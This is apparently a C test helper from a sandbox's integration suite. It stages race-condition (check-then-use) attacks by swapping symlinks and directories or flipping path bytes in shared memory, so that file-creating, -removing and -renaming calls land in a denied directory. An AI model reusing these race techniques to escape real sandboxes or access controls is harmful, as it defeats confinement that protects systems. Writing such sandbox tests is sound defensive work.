/* syd-write: the calls that create, remove and rename names, attacked and
 * exercised (tests/integration/write_test.cc).
 *
 *   syd-write prepare T
 *     Lays out T/A (the tree the tests allow) and T/D (the tree they deny):
 *     T/A/f, T/A/n, T/A/victim, T/A/sub/ (a directory holding n, victim,
 *     d/), T/A/alt -> T/D,
 *     T/A/x (a file), T/A/xl -> T/D/victim; T/D/n, T/D/d/, T/D/victim.
 *
 *   syd-write attack KIND CALL T SECONDS
 *     Tries for SECONDS to make CALL change T/D while the policy allows T/A
 *     only. KIND says how the path is made to change between the check and
 *     the kernel's use of it:
 *       dirswap  a thread exchanges T/A/sub (a directory) and T/A/alt (a
 *                symlink to T/D) while CALL acts on T/A/sub/NAME;
 *       lastswap a thread exchanges T/A/x (a file) and T/A/xl (a symlink
 *                to T/D/victim) while CALL acts on T/A/x itself;
 *       thread   a thread flips the path buffer between T/A/NAME and
 *                T/D/NAME (one byte);
 *       vmchild  the same from a CLONE_VM child (another process);
 *       shm      the same from a forked process through a MAP_SHARED page.
 *     CALL: mkdir mknod symlink link rename exchange unlink rmdir
 *     (T/A/sub/NAME forms for dirswap), linkold (link's old path: a hard
 *     link to T/D/victim as T/A/h, a way to write it later), linkfollow
 *     (lastswap: linkat with AT_SYMLINK_FOLLOW of T/A/x to T/A/h).
 *     Exit 0 when T/D changed (the attack worked), 1 when it did not;
 *     prints how many attempts were made, succeeded (in T/A) and failed.
 *
 *   syd-write do CALL ARG...
 *     One system call, raw; prints OK or the errno's name and exits 0 or
 *     the errno. "DIR//NAME" for a dirfd as in syd-test-helper; "fd:N".
 *     CALLs: mkdir P MODE, mkdirat, mknod P TYPE MODE MAJ MIN (TYPE one of
 *     fifo sock reg zero chr blk dir bad), mknodat, rmdir P, unlink P,
 *     unlinkat P FLAGS, rename A B, renameat2 A B FLAGS, link A B,
 *     linkat A B FLAGS, symlink TARGET P, symlinkat TARGET P, and
 *     tmpfile-link DIR NEW (O_TMPFILE then linkat(fd, "", AT_EMPTY_PATH) or,
 *     failing that, through /proc/self/fd), openfd-link FILE NEW (open
 *     then linkat AT_EMPTY_PATH), open-w P (open for writing and write).
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_NOREPLACE
#define RENAME_NOREPLACE 1
#endif
#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif
#ifndef AT_EMPTY_PATH
#define AT_EMPTY_PATH 0x1000
#endif

static void die(const char* what) {
  fprintf(stderr, "syd-write: %s: %s\n", what, strerror(errno));
  exit(100);
}

static void path_of(char* out, size_t n, const char* t, const char* rel) { snprintf(out, n, "%s/%s", t, rel); }

static void write_file(const char* p, const char* data) {
  int fd = open(p, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
  if (fd < 0) die(p);
  if (write(fd, data, strlen(data)) != (ssize_t)strlen(data)) die(p);
  close(fd);
}

static int prepare(const char* t) {
  char p[4096], q[4096];
#define P(rel) (path_of(p, sizeof p, t, rel), p)
#define Q(rel) (path_of(q, sizeof q, t, rel), q)
  if (mkdir(P("A"), 0755) || mkdir(P("D"), 0755)) die("mkdir");
  write_file(P("A/f"), "allowed f\n");
  write_file(P("A/n"), "allowed n\n");
  write_file(P("A/x"), "allowed x\n");
  if (mkdir(P("A/sub"), 0755) || mkdir(P("A/sub/d"), 0755)) die("mkdir sub");
  write_file(P("A/sub/n"), "allowed sub/n\n");
  write_file(P("A/victim"), "allowed victim\n");
  write_file(P("A/sub/victim"), "allowed sub/victim\n");
  if (symlink(Q("D"), P("A/alt"))) die("symlink alt");
  if (symlink(Q("D/victim"), P("A/xl"))) die("symlink xl");
  write_file(P("D/n"), "denied n\n");
  write_file(P("D/victim"), "denied victim\n");
  if (mkdir(P("D/d"), 0755)) die("mkdir D/d");
#undef P
#undef Q
  return 0;
}

/* ---- attack ---- */

static atomic_int stop;
static char* buf;        /* the path the main thread passes (may be shared) */
static size_t flip_at;   /* index of the byte that is 'A' or 'D' */
static const char* top;

static void flip_forever(void) {
  volatile char* b = buf;
  while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
    b[flip_at] = 'D';
    for (volatile int i = 0; i < 20; ++i) {}
    b[flip_at] = 'A';
    for (volatile int i = 0; i < 20; ++i) {}
  }
}

static void* flip_thread(void* arg) {
  (void)arg;
  flip_forever();
  return NULL;
}

static int flip_child(void* arg) {
  (void)arg;
  flip_forever();
  return 0;
}

/* Exchanges two names as fast as it can. */
static char swap_a[4096], swap_b[4096];
static void* swap_thread(void* arg) {
  (void)arg;
  while (!atomic_load_explicit(&stop, memory_order_relaxed))
    syscall(SYS_renameat2, AT_FDCWD, swap_a, AT_FDCWD, swap_b, RENAME_EXCHANGE);
  return NULL;
}

/* What T/D looks like, cheaply: the directory's and the victim's
 * change times and link counts, through descriptors held from the start
 * (fstat is never notified). */
struct sig {
  struct timespec dm, dc, vc;
  nlink_t dn, vn;
};
static int dir_fd = -1, victim_fd = -1;
static struct sig signature(void) {
  struct sig s;
  struct stat st;
  memset(&s, 0, sizeof s);
  if (fstat(dir_fd, &st) == 0) { s.dm = st.st_mtim; s.dc = st.st_ctim; s.dn = st.st_nlink; }
  if (fstat(victim_fd, &st) == 0) { s.vc = st.st_ctim; s.vn = st.st_nlink; }
  return s;
}
static int same(const struct sig* a, const struct sig* b) {
  return a->dm.tv_sec == b->dm.tv_sec && a->dm.tv_nsec == b->dm.tv_nsec && a->dc.tv_sec == b->dc.tv_sec &&
         a->dc.tv_nsec == b->dc.tv_nsec && a->vc.tv_sec == b->vc.tv_sec && a->vc.tv_nsec == b->vc.tv_nsec &&
         a->dn == b->dn && a->vn == b->vn;
}

static double now(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (double)ts.tv_sec + ts.tv_nsec / 1e9;
}

/* One attempt of CALL on `path`; 0 or the errno. */
static int attempt(const char* call, const char* path, const char* a_f) {
  long r;
  if (!strcmp(call, "mkdir")) r = syscall(SYS_mkdir, path, 0755);
  else if (!strcmp(call, "mknod")) r = syscall(SYS_mknod, path, S_IFIFO | 0644, 0);
  else if (!strcmp(call, "symlink")) r = syscall(SYS_symlink, "planted", path);
  else if (!strcmp(call, "link")) r = syscall(SYS_link, a_f, path);
  else if (!strcmp(call, "rename")) r = syscall(SYS_rename, a_f, path);
  else if (!strcmp(call, "exchange")) r = syscall(SYS_renameat2, AT_FDCWD, a_f, AT_FDCWD, path, RENAME_EXCHANGE);
  else if (!strcmp(call, "unlink")) r = syscall(SYS_unlink, path);
  else if (!strcmp(call, "rmdir")) r = syscall(SYS_rmdir, path);
  else if (!strcmp(call, "linkfollow") || !strcmp(call, "linkold")) {
    char h[4096];
    path_of(h, sizeof h, top, "A/h");
    r = syscall(SYS_linkat, AT_FDCWD, path, AT_FDCWD, h, !strcmp(call, "linkfollow") ? AT_SYMLINK_FOLLOW : 0);
  } else {
    fprintf(stderr, "syd-write: unknown call %s\n", call);
    exit(100);
  }
  return r == 0 ? 0 : errno;
}

/* Puts back what a successful attempt in T/A took away or added, through
 * `dirfd` (the directory the attempt named when it was allowed), so no
 * restore ever goes through the swapped symlink or the flipped buffer. */
static void restore(const char* call, int dirfd, const char* name, const char* a_f) {
  if (!strcmp(call, "mkdir") || !strcmp(call, "rmdir")) {
    if (!strcmp(call, "mkdir")) unlinkat(dirfd, name, AT_REMOVEDIR);
    else mkdirat(dirfd, name, 0755);
  } else if (!strcmp(call, "mknod") || !strcmp(call, "symlink") || !strcmp(call, "link")) {
    unlinkat(dirfd, name, 0);
  } else if (!strcmp(call, "rename")) {
    renameat(dirfd, name, AT_FDCWD, a_f);
  } else if (!strcmp(call, "unlink")) {
    int fd = openat(dirfd, name, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
    if (fd >= 0) close(fd);
  } else if (!strcmp(call, "linkfollow") || !strcmp(call, "linkold")) {
    char h[4096];
    path_of(h, sizeof h, top, "A/h");
    unlink(h);
  }
}

static const char* name_for(const char* call) {
  if (!strcmp(call, "unlink") || !strcmp(call, "exchange")) return "n";
  if (!strcmp(call, "rmdir")) return "d";
  if (!strcmp(call, "linkold")) return "victim";
  return "m";
}

static int attack(const char* kind, const char* call, const char* t, double seconds) {
  top = t;
  char p[4096], a_f[4096];
  path_of(a_f, sizeof a_f, t, "A/f");
  path_of(p, sizeof p, t, "D");
  dir_fd = open(p, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  path_of(p, sizeof p, t, "D/victim");
  victim_fd = open(p, O_PATH | O_CLOEXEC);
  if (dir_fd < 0 || victim_fd < 0) die("open T/D");
  const char* name = name_for(call);
  int restore_fd = -1;  /* where an allowed attempt acted */
  pthread_t th;
  pid_t child = -1;
  char* stack = NULL;

  if (!strcmp(kind, "dirswap") || !strcmp(kind, "lastswap")) {
    static char fixed[4096];
    buf = fixed;
    const int dir = !strcmp(kind, "dirswap");
    if (dir) {
      path_of(swap_a, sizeof swap_a, t, "A/sub");
      path_of(swap_b, sizeof swap_b, t, "A/alt");
      snprintf(fixed, sizeof fixed, "%s/A/sub/%s", t, name);
      restore_fd = open(swap_a, O_PATH | O_DIRECTORY | O_CLOEXEC);  /* the real directory, wherever it moves */
    } else {
      if (strcmp(call, "linkfollow") != 0) {
        fprintf(stderr, "syd-write: lastswap is for linkfollow (no other call follows its last component)\n");
        return 100;
      }
      path_of(swap_a, sizeof swap_a, t, "A/x");
      path_of(swap_b, sizeof swap_b, t, "A/xl");
      snprintf(fixed, sizeof fixed, "%s/A/x", t);
      path_of(p, sizeof p, t, "A");
      restore_fd = open(p, O_PATH | O_DIRECTORY | O_CLOEXEC);
    }
    if (restore_fd < 0) die("open restore dir");
    if (pthread_create(&th, NULL, swap_thread, NULL)) die("pthread_create");
  } else {
    /* The path lives in memory another thread or process writes. */
    if (!strcmp(kind, "shm")) {
      buf = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
      if (buf == MAP_FAILED) die("mmap");
    } else {
      buf = malloc(4096);
    }
    snprintf(buf, 4096, "%s/A/%s", t, name);
    flip_at = strlen(t) + 1;
    path_of(p, sizeof p, t, "A");
    restore_fd = open(p, O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (restore_fd < 0) die("open T/A");
    if (!strcmp(kind, "thread")) {
      if (pthread_create(&th, NULL, flip_thread, NULL)) die("pthread_create");
    } else if (!strcmp(kind, "vmchild")) {
      stack = malloc(1 << 16);
      child = clone(flip_child, stack + (1 << 16), CLONE_VM | SIGCHLD, NULL);
      if (child < 0) die("clone");
    } else if (!strcmp(kind, "shm")) {
      /* `stop` is not shared with a forked child: it flips until killed. */
      child = fork();
      if (child < 0) die("fork");
      if (child == 0) {
        flip_forever();
        _exit(0);
      }
    } else {
      fprintf(stderr, "syd-write: unknown kind %s\n", kind);
      return 100;
    }
  }

  const struct sig before = signature();
  long attempts = 0, ok = 0, denied = 0, other = 0;
  int changed = 0;
  const double end = now() + seconds;
  while (now() < end) {
    int e = attempt(call, buf, a_f);
    ++attempts;
    if (e == 0) {
      ++ok;
    } else if (e == EPERM || e == EACCES) {
      ++denied;
    } else {
      ++other;
    }
    struct sig s = signature();
    if (!same(&before, &s)) {
      changed = 1;
      break;
    }
    restore(call, restore_fd, !strcmp(kind, "lastswap") ? "x" : name, a_f);
  }
  atomic_store(&stop, 1);
  if (child > 0) {
    if (!strcmp(kind, "shm")) kill(child, SIGKILL);
    waitpid(child, NULL, __WALL);
  } else {
    pthread_join(th, NULL);
  }
  printf("%s %s: %s after %ld attempts (%ld succeeded, %ld denied, %ld failed otherwise)\n", kind, call,
         changed ? "CHANGED T/D" : "T/D unchanged", attempts, ok, denied, other);
  return changed ? 0 : 1;
}

/* ---- do ---- */

static int fd_of(const char* s) { return strncmp(s, "fd:", 3) == 0 ? atoi(s + 3) : -1; }

static int split_at(const char* s, const char** name) {
  const char* sep = strstr(s, "//");
  if (!sep) {
    *name = s;
    return AT_FDCWD;
  }
  *name = sep + 2;
  char dir[4096];
  size_t n = (size_t)(sep - s);
  if (n >= sizeof dir) exit(ENAMETOOLONG);
  memcpy(dir, s, n);
  dir[n] = 0;
  if (fd_of(dir) >= 0) return fd_of(dir);
  int fd = open(dir, O_PATH | O_DIRECTORY);
  if (fd < 0) die(dir);
  return fd;
}

static int done(long r) {
  if (r < 0) {
    int e = errno;
    printf("%s\n", strerrorname_np(e) ? strerrorname_np(e) : "?");
    return e;
  }
  printf("OK\n");
  return 0;
}

static mode_t type_of(const char* s) {
  if (!strcmp(s, "fifo")) return S_IFIFO;
  if (!strcmp(s, "sock")) return S_IFSOCK;
  if (!strcmp(s, "reg")) return S_IFREG;
  if (!strcmp(s, "zero")) return 0;
  if (!strcmp(s, "chr")) return S_IFCHR;
  if (!strcmp(s, "blk")) return S_IFBLK;
  if (!strcmp(s, "dir")) return S_IFDIR;
  return 0170000;  /* "bad": no such type */
}

static int do_call(int argc, char** argv) {
  const char* c = argv[0];
  const char* a = argc > 1 ? argv[1] : "";
  const char* b = argc > 2 ? argv[2] : "";
  const char *na, *nb;
#define IS(x) (strcmp(c, x) == 0)
#define NUM(i) (argc > (i) ? strtoul(argv[i], NULL, 0) : 0)
  if (IS("mkdir")) return done(syscall(SYS_mkdir, a, NUM(2)));
  if (IS("mkdirat")) { int d = split_at(a, &na); return done(syscall(SYS_mkdirat, d, na, NUM(2))); }
  if (IS("mknod") || IS("mknodat")) {
    const mode_t mode = type_of(b) | (mode_t)NUM(3);
    const dev_t dev = makedev(NUM(4), NUM(5));
    if (IS("mknod")) return done(syscall(SYS_mknod, a, mode, dev));
    int d = split_at(a, &na);
    return done(syscall(SYS_mknodat, d, na, mode, dev));
  }
  if (IS("rmdir")) return done(syscall(SYS_rmdir, a));
  if (IS("unlink")) return done(syscall(SYS_unlink, a));
  if (IS("unlinkat")) { int d = split_at(a, &na); return done(syscall(SYS_unlinkat, d, na, NUM(2))); }
  if (IS("rename")) return done(syscall(SYS_rename, a, b));
  if (IS("renameat")) { int d = split_at(a, &na), e = split_at(b, &nb); return done(syscall(SYS_renameat, d, na, e, nb)); }
  if (IS("renameat2")) {
    int d = split_at(a, &na), e = split_at(b, &nb);
    return done(syscall(SYS_renameat2, d, na, e, nb, NUM(3)));
  }
  if (IS("link")) return done(syscall(SYS_link, a, b));
  if (IS("linkat")) {
    int d = split_at(a, &na), e = split_at(b, &nb);
    return done(syscall(SYS_linkat, d, na, e, nb, NUM(3)));
  }
  if (IS("symlink")) return done(syscall(SYS_symlink, a, b));
  if (IS("symlinkat")) { int e = split_at(b, &nb); return done(syscall(SYS_symlinkat, a, e, nb)); }
  if (IS("tmpfile-link") || IS("openfd-link")) {
    int fd = IS("tmpfile-link") ? open(a, O_TMPFILE | O_WRONLY | O_CLOEXEC, 0600) : open(a, O_RDONLY | O_CLOEXEC);
    if (fd < 0) return done(-1);
    if (IS("tmpfile-link") && write(fd, "tmp\n", 4) != 4) return done(-1);
    long r = syscall(SYS_linkat, fd, "", AT_FDCWD, b, AT_EMPTY_PATH);
    if (r != 0 && IS("tmpfile-link") && errno == ENOENT) {
      /* Without CAP_DAC_READ_SEARCH: the documented way (open(2)). */
      char proc[64];
      snprintf(proc, sizeof proc, "/proc/self/fd/%d", fd);
      printf("via /proc: ");
      r = syscall(SYS_linkat, AT_FDCWD, proc, AT_FDCWD, b, AT_SYMLINK_FOLLOW);
    }
    return done(r);
  }
  if (IS("open-w")) {
    int fd = open(a, O_WRONLY | O_CLOEXEC);
    if (fd < 0) return done(-1);
    return done(write(fd, "x", 1) == 1 ? 0 : -1);
  }
  fprintf(stderr, "syd-write: unknown call %s\n", c);
  return 100;
#undef IS
#undef NUM
}

int main(int argc, char** argv) {
  if (argc >= 3 && !strcmp(argv[1], "prepare")) return prepare(argv[2]);
  if (argc >= 6 && !strcmp(argv[1], "attack")) return attack(argv[2], argv[3], argv[4], atof(argv[5]));
  if (argc >= 3 && !strcmp(argv[1], "do")) return do_call(argc - 2, argv + 2);
  fprintf(stderr, "usage: syd-write prepare T | attack KIND CALL T SECONDS | do CALL ARG...\n");
  return 100;
}
